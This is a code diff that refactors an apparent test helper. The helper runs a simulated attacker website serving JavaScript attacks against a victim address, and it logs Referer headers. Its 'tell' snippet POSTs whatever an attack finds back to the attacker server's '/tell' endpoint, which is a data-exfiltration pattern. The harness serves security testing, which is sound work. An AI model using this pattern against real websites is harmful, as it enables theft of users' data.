@@ -4,11 +4,9 @@ from __future__ import annotations
 
 import urllib.parse
 from collections.abc import Iterator
-from contextlib import contextmanager
-from http.server import BaseHTTPRequestHandler
-from typing import Any, ClassVar
+from contextlib import closing, contextmanager
 
-from web.careless import serving
+from servers import Asked, Said, WebServer
 
 # Each runs in a page of the attacker's, with T as the address of its victim; `tell` brings home what was found.
 TELL = "const told = []; const tell = (what) => told.push(fetch('/tell', {method: 'POST', body: String(what)}));"
@@ -53,38 +51,23 @@ class Attacker:
         self.port = 0
         self.victim = ""
 
-
-class Answers(BaseHTTPRequestHandler):
-    attacker: ClassVar[Attacker]
-
-    def do_POST(self) -> None:
-        self.attacker.told.append(
-            self.rfile.read(int(self.headers.get("Content-Length", 0))).decode("utf-8", "replace")
+    def answer(self, asked: Asked) -> Said:
+        html = {"Content-Type": "text/html"}
+        if asked.method == "POST":
+            self.told.append(asked.body.decode("utf-8", "replace"))
+            return Said(headers=html)
+        self.referers.append(asked.headers.get("Referer", ""))
+        attack = ATTACKS.get(urllib.parse.unquote(asked.path[1:]), "")
+        page = (
+            f"<!doctype html><body><script>const T = {self.victim!r}; {TELL} (async () => {{ {attack} }})()"
+            ".catch(() => 0).then(() => Promise.all(told)).then(() => { document.title = 'done' })</script>"
         )
-        self._answer("")
-
-    def do_GET(self) -> None:
-        self.attacker.referers.append(self.headers.get("Referer", ""))
-        attack = ATTACKS.get(urllib.parse.unquote(self.path[1:]), "")
-        begin = f"const T = {self.attacker.victim!r}; {TELL}"
-        self._answer(
-            f"<!doctype html><body><script>{begin} (async () => {{ {attack} }})().catch(() => 0)"
-            ".then(() => Promise.all(told)).then(() => { document.title = 'done' })</script>"
-        )
-
-    def _answer(self, text: str) -> None:
-        self.send_response(200)
-        self.send_header("Content-Type", "text/html")
-        self.send_header("Content-Length", str(len(text.encode())))
-        self.end_headers()
-        self.wfile.write(text.encode())
-
-    def log_message(self, format: str, *words: Any) -> None:
-        """Nobody reads it."""
+        return Said(page.encode(), headers=html)
 
 
 @contextmanager
 def attacker_site() -> Iterator[Attacker]:
     attacker = Attacker()
-    with serving(type("Handler", (Answers,), {"attacker": attacker})) as attacker.port:
+    with closing(WebServer(attacker.answer)) as server:
+        attacker.port = server.port
         yield attacker
